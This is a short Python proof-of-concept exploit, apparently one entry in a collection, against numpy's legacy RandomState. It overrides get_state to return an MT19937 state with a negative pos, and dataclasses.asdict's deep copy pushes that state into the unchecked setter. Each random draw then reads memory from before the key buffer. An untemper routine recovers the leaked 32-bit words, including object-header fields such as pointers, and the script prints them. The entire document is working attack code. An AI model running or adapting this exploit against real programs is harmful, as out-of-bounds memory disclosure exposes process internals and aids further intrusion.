# source: numpy/random/mtrand.pyx RandomState.__reduce__ (takes its state from self.get_state(), overridable) and __setstate__ -> set_state; numpy/random/_mt19937.pyx MT19937.state setter (pos unchecked); dataclasses._asdict_inner -> copy.deepcopy
# family: copy-protocol state injection into a bit generator's unchecked state setter (RandomState subclass overriding get_state, deep-copied by dataclasses.asdict)
# goal: a legacy RandomState whose MT19937 pos is -40: each draw reads 4 bytes of process memory before the key buffer (the object header: refcount, type pointer, ...)
import dataclasses
import numpy as np


class Legacy(np.random.RandomState):
    def get_state(self, legacy=True):
        key = np.zeros(624, dtype=np.uint32)
        return {"bit_generator": "MT19937",
                "state": {"key": key, "pos": -40},
                "has_gauss": 0, "gauss": 0.0}


@dataclasses.dataclass
class Holder:
    gen: object


def untemper(y):
    y = int(y)
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    t = y
    for _ in range(5):
        t = y ^ ((t << 7) & 0x9D2C5680)
    y = t & 0xFFFFFFFF
    t = y
    for _ in range(3):
        t = y ^ (t >> 11)
    return t & 0xFFFFFFFF


rs = dataclasses.asdict(Holder(Legacy(0)))["gen"]
raw = rs.randint(0, 2 ** 32, size=40, dtype=np.uint64)
words = [untemper(v) for v in raw]
print("32-bit words read before the MT19937 key buffer:")
print(" ".join("%08x" % w for w in words))
